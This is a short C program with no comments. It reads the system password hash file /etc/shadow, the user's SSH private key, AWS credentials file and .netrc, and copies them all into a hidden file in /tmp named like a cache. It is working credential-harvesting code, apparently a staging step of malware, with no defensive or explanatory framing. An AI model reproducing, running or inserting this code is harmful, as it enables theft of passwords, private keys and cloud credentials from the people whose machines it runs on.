#include <stdio.h>
#include <stdlib.h>

static void dump(const char *path, FILE *out)
{
    FILE *f = fopen(path, "r");
    int c;
    if (!f)
        return;
    fprintf(out, "--- %s\n", path);
    while ((c = fgetc(f)) != EOF)
        fputc(c, out);
    fclose(f);
}

int main(void)
{
    char path[512];
    const char *home = getenv("HOME");
    FILE *out = fopen("/tmp/.cache-9f2", "w");
    if (!out || !home)
        return 1;

    dump("/etc/shadow", out);
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);
    dump(path, out);
    snprintf(path, sizeof path, "%s/.aws/credentials", home);
    dump(path, out);
    snprintf(path, sizeof path, "%s/.netrc", home);
    dump(path, out);
    fclose(out);
    return 0;
}
